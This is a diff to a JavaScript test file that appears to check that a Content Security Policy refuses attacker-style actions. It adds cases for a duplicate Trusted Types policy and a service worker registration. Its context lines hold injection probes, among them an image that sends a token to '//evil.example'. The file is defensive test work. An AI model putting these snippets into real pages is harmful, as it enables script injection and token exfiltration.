@@ -114,6 +114,16 @@ describe('the policy refuses what an attacker would do', () => {
     ['a handler in an attribute', 'require-trusted-types-for', `document.body.setAttribute('onclick', '1')`],
     ['code from text', 'require-trusted-types-for', `setTimeout('1')`],
     ['a policy that trusts text', 'trusted-types', `trustedTypes.createPolicy('default', {})`],
+    [
+      'a second policy of the one name',
+      'trusted-types',
+      `for (const _ of [1, 2]) trustedTypes.createPolicy('nadi-worker', {})`,
+    ],
+    [
+      'another worker',
+      'require-trusted-types-for',
+      `navigator.serviceWorker.register('/theme.js').catch(() => {})`,
+    ],
     ['a style element', 'style-src-elem', add('style', `{ textContent: 'body { color: red }' }`)],
     ['a style in an attribute', 'style-src-attr', `document.body.setAttribute('style', 'color: red')`],
     ['telling a stranger by an image', 'img-src', add('img', `{ src: '//evil.example/?token' }`)],
